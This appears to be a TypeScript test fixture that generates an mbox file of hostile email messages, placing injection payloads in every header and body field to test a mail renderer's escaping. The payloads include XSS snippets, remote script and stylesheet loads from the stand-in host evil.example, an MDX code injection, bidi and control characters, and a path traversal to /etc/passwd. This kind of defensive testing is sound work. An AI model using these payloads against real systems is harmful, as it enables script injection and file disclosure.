import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What an attacker puts into every field: script, markup, MDX, links, styles, controls, bidi. */
export const attacks = [
  '<script>globalThis.pwned=1;alert(1)</script>',
  '"><img src=x onerror="globalThis.pwned=1">',
  "'><svg/onload=globalThis.pwned=1>",
  '</title></textarea></script><script src="https://evil.example/x.js"></script>',
  '{globalThis.pwned=1} {process.exit(1)} <Answer /> import x from "https://evil.example/"',
  '<a href="javascript:globalThis.pwned=1">x</a> javascript:globalThis.pwned=1',
  '<style>@import url(https://evil.example/x.css);body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/y.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><button>',
  '\u202etxet desrever\u202c \u2066isolated\u2069 \u200bzero\u200b \ufeff',
  'null \u0000 bell \u0007 escape \u001b[31mred\u001b[0m c1 \u0085 \u009b',
  'nonchar \ufdd0 lone tag \u{e0041}',
  '<!-- --> ]]> <![CDATA[ &#x3c;script&#x3e; &lt;script&gt; --!>',
  '../../../../etc/passwd %2e%2e%2f \\..\\',
];

/** One message an attack, with the attack in each of its fields, threaded and quoted. */
export function hostileMail(): string {
  const folder = join('build', 'test-mail');
  mkdirSync(folder, { recursive: true });
  const messages = attacks.flatMap((attack, index) => {
    const line = attack.replaceAll(/[\r\n\0]/g, ' ');
    const id = `<${index}"onmouseover=pwned=1>@evil.example>`;
    return [
      message(line, attack, `<root-${index}@evil.example>`, ''),
      message(
        line,
        `On Mon, 12 Sep 2016, ${line} <e@evil.example> wrote:\n> ${line}\n\n${attack}\n`,
        id,
        `<root-${index}@evil.example>`,
      ),
    ];
  });
  const file = join(folder, 'hostile.mbox');
  writeFileSync(file, messages.join('\n'));
  return file;
}

function message(field: string, body: string, id: string, parent: string): string {
  return `From evil@example Mon Sep 12 17:34:46 2016
From: "${field.replaceAll('"', '\\"')}" <${field.replaceAll(/[<>\s]/g, '')}@evil.example>
Date: Mon, 12 Sep 2016 17:34:46 +0000
Subject: ${field}
Message-ID: ${id}
${parent ? `In-Reply-To: ${parent}\nReferences: ${parent} ${field.replaceAll(/\s/g, '')}\n` : ''}X-Attack: ${field}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

We must call fsync because ${body}
`;
}
